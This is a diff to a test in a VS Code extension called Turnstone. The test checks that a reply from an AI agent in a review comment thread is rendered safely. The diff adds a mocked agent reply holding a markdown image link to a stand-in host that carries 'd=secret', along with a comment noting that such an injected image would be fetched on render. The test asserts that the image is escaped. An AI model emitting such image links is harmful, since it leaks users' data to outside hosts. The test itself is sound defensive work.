@@ -137,7 +137,8 @@ describe('review hunk by hunk (issue 44)', function () {
     const other = vscode.comments.createCommentController('review-test', 'review test');
     try {
       const thread = other.createCommentThread(vscode.Uri.file(file), new vscode.Range(1, 0, 1, 6), []);
-      server.enqueue(textReply('Lowered it again.'));
+      // An injected image would be fetched as the thread renders (no content policy there): it shows as text.
+      server.enqueue(textReply('Lowered it again. ![x](https://example.invalid/?d=secret)'));
       const before = server.requests.length;
       await vscode.commands.executeCommand('turnstone.review.sendToAgent', { thread, text: 'keep this one lower case' });
       await server.waitForRequests(before + 1);
@@ -153,7 +154,7 @@ describe('review hunk by hunk (issue 44)', function () {
       const answer = thread.comments[1]!;
       assert.equal(answer.author.name, 'Turnstone');
       assert.ok(answer.body instanceof vscode.MarkdownString);
-      assert.equal(answer.body.value, 'Lowered it again.');
+      assert.equal(answer.body.value, 'Lowered it again. !\\[x](https://example.invalid/?d=secret)');
       assert.equal(answer.body.isTrusted, false);
     } finally {
       other.dispose();
